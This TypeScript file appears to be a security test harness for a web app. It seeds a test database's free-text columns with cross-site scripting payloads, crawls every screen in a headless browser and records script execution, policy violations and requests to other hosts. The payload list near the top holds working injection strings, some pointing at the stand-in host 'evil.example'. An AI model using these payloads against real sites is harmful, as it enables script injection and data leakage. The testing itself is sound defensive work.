import { readFileSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import { chromium, type BrowserContext, type Page } from '@playwright/test'
import type pg from 'pg'
import { browser as headless } from '../e2e/browser.ts'
import { startServer } from '../e2e/server.ts'
import { copyTemplate } from '#app/testing-template.ts'
import { openPool } from '#db/open.ts'
import { routes } from '#platform/contract/routes.ts'
import { demoPassword } from '#seed/demo-password.ts'
import { show, verdict, type Row } from './table.ts'

const foreign = 'evil.example'

/** Each would say so if it ran, or ask another place for something if it could. */
export const payloads = [
  `<img src=x onerror="window.kithRan=1">`,
  `"><svg onload="window.kithRan=1">`,
  `<script>window.kithRan=1</script>`,
  `<script src="//${foreign}/x.js"></script>`,
  `<iframe src="http://${foreign}/"></iframe>`,
  `<a href="javascript:window.kithRan=1">x</a>`,
  `javascript:window.kithRan=1//`,
  `![x](http://${foreign}/p.png) **b** <b>`,
  `{{constructor.constructor('window.kithRan=1')()}}\${window.kithRan=1}`,
  `<style>@import url(http://${foreign}/x.css);*{background:url(http://${foreign}/y.png)}</style>`,
  `<form action="http://${foreign}/"><input autofocus onfocus="window.kithRan=1">`,
  `'-window.kithRan=1-'`,
]

const notText =
  /hash|token|secret|email|digits|zip|key|url|call|sha|storage|path|code|^cid$|ssn|phone|state|status|kind|module|zone|language|^ip$|agent|task|specifier|^value$|_norm$|keys$/

/** Puts a payload behind what is written in the free texts of every table: those whose values are people's own words. */
async function plant(owner: pg.Pool): Promise<number> {
  const { rows: columns } = await owner.query<{ table: string; column: string }>(
    `select c.table_name as table, c.column_name as column from information_schema.columns c
       join information_schema.tables t using (table_schema, table_name)
     where c.table_schema = 'public' and t.table_type = 'BASE TABLE' and c.data_type = 'text' and c.is_generated = 'NEVER'
       and c.table_name not in ('audit', 'permission', 'role', 'session', 'migration', 'person_search', 'listed_column', 'setting')
       and not exists (select from pg_constraint k join pg_attribute a on a.attrelid = k.conrelid and a.attnum = any (k.conkey)
         where k.contype = 'c' and k.conrelid = ('public.' || quote_ident(c.table_name))::regclass and a.attname = c.column_name)
       and not exists (select from listed_column l where l.table_name = c.table_name and l.column_name = c.column_name)`,
  )
  const client = await owner.connect()
  let planted = 0
  await client.query("set session_replication_role = 'replica'")
  for (const { table, column } of columns) {
    if (notText.test(column)) continue
    try {
      // Few values in many rows are a list of the program's own, not somebody's words.
      const { rows } = await client.query<{ own: boolean }>(
        `select count(distinct ${column}) > 7 or count(${column}) <= 3 as own from ${table}`,
      )
      if (!rows[0]!.own) continue
      const done = await client.query(
        `update ${table} set ${column} = left(${column}, 60) || ' ' || ($1::text[])[1 + (abs(hashtext(${column})) % $2)]
         where ${column} is not null and ${column} <> '' and ctid in (select ctid from ${table} where ${column} <> '' limit 400)`,
        [payloads, payloads.length],
      )
      planted += done.rowCount ?? 0
    } catch {
      // What the database does not take is not planted.
    }
  }
  client.release()
  return planted
}

export interface Heard {
  ran: string[]
  asked: string[]
  blocked: string[]
  faults: Set<string>
}

/** Listens for anything that runs, asks another place, or would have if the policy had let it. */
export async function listen(context: BrowserContext, origin: string): Promise<Heard> {
  const heard: Heard = { ran: [], asked: [], blocked: [], faults: new Set() }
  await context.exposeBinding('kithHeard', ({ page }, what: string) => void heard.ran.push(`${what} at ${page.url()}`))
  await context.addInitScript(() => {
    const told = (what: string) => (window as unknown as { kithHeard: (said: string) => void }).kithHeard(what)
    Object.defineProperty(window, 'kithRan', {
      set() {
        told('ran')
      },
      get: () => undefined,
    })
    addEventListener('securitypolicyviolation', (event) =>
      told(`policy ${event.violatedDirective} ${event.blockedURI}`),
    )
  })
  context.on('request', (request) => {
    const { protocol } = new URL(request.url())
    if (['http:', 'https:', 'ws:'].includes(protocol) && !request.url().startsWith(origin))
      heard.asked.push(request.url())
  })
  context.on('response', (reply) => {
    if (reply.status() === 500) heard.faults.add(new URL(reply.url()).pathname)
  })
  context.on('dialog', (dialog) => {
    heard.ran.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  return heard
}

const quiet = async (page: Page) => {
  await page
    .locator('h1')
    .first()
    .waitFor({ timeout: 15_000 })
    .catch(() => undefined)
  await page.waitForLoadState('networkidle', { timeout: 8000 }).catch(() => undefined)
}

/** Whether it would have been heard if an attack had become a part of the page. */
async function wouldHear(page: Page, heard: Heard): Promise<boolean> {
  const before = heard.ran.length
  const asked = heard.asked.length
  await page.evaluate(
    ([markup, foreignImage]) => {
      try {
        document.body.insertAdjacentHTML('beforeend', markup!)
      } catch {
        // The policy takes no text for markup.
      }
      document.body.append(Object.assign(new Image(), { src: foreignImage }))
    },
    [payloads[0]!, `http://${foreign}/heard.png`],
  )
  await page.waitForTimeout(500)
  heard.asked.splice(asked)
  return heard.ran.splice(before).length > 0
}

/**
 * Every screen there is, and the records they lead to, over data in which every free text is an attack. Without the policy
 * nothing but the escaping keeps it from running.
 */
export async function sweepScreens({ pages: most, policy }: { pages: number; policy: boolean }): Promise<Row[]> {
  const folder = copyTemplate('kith-sweep-')
  const server = await startServer(folder)
  const [, , , , socket = ''] = readFileSync(join(folder, 'postgres/postmaster.pid'), 'utf8').split('\n')
  const owner = openPool({ connection: { host: socket, port: 5432, user: 'owner', database: 'kith' }, max: 2 })
  const browser = await chromium.launch(headless)
  try {
    const planted = await plant(owner)
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 }, bypassCSP: !policy })
    const heard = await listen(context, server.origin)
    const page = await context.newPage()
    await page.goto(server.url)
    await page.getByLabel('Work e-mail').fill('desmond.directo@kith.example')
    await page.getByLabel('Password', { exact: true }).fill(demoPassword)
    await page.getByRole('button', { name: 'Sign in', exact: true }).click()
    await quiet(page)
    const base = server.url.replace(/\/$/, '')
    const waiting = routes
      .filter((route) => !route.path.includes(':') && !('redirect' in route))
      .map(({ path }) => base + path)
    // Screens of one kind are looked at a few times, each with another record.
    const kinds = new Map<string, number>()
    const kindOf = (url: string) => url.replaceAll(/[0-9a-f]{8}-[0-9a-f-]{27}/g, ':id').replace(/[?&](?!tab=).*$/, '')
    const seen = new Set<string>()
    for (let url = waiting.shift(); url && seen.size < most; url = waiting.shift()) {
      if (seen.has(url)) continue
      seen.add(url)
      await page.goto(url).catch(() => undefined)
      await quiet(page)
      const links = await page
        .locator('a[href]')
        .evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).href))
      for (const link of links.filter((one) => one.startsWith(base) && !seen.has(one))) {
        const looked = kinds.get(kindOf(link)) ?? 0
        if (looked >= 2) continue
        kinds.set(kindOf(link), looked + 1)
        waiting.push(link)
      }
    }
    const hears = await wouldHear(page, heard)
    for (const one of [...heard.ran, ...heard.asked].slice(0, 20)) console.log(one)
    for (const one of heard.faults) console.log(`500 at ${one}`)
    const part = policy ? 'sweep' : 'sweep without the policy'
    return [
      [part, 'texts planted, screens', `${planted}, ${seen.size} of ${kinds.size} kinds`, verdict(planted > 500)],
      [part, 'an attack that is let through is heard', String(hears), verdict(hears)],
      [
        part,
        policy ? 'executions and breaches of the policy' : 'executions',
        String(heard.ran.length),
        verdict(heard.ran.length === 0),
      ],
      [part, 'requests to other places', String(heard.asked.length), verdict(heard.asked.length === 0)],
      [part, 'calls that failed over such data', String(heard.faults.size), verdict(heard.faults.size === 0)],
    ]
  } finally {
    await browser.close()
    await owner.end()
    await server.stop()
    rmSync(folder, { recursive: true, force: true })
  }
}

if (import.meta.main)
  show(await sweepScreens({ pages: Number(process.argv[2] ?? 200), policy: process.argv[3] !== 'without-policy' }))
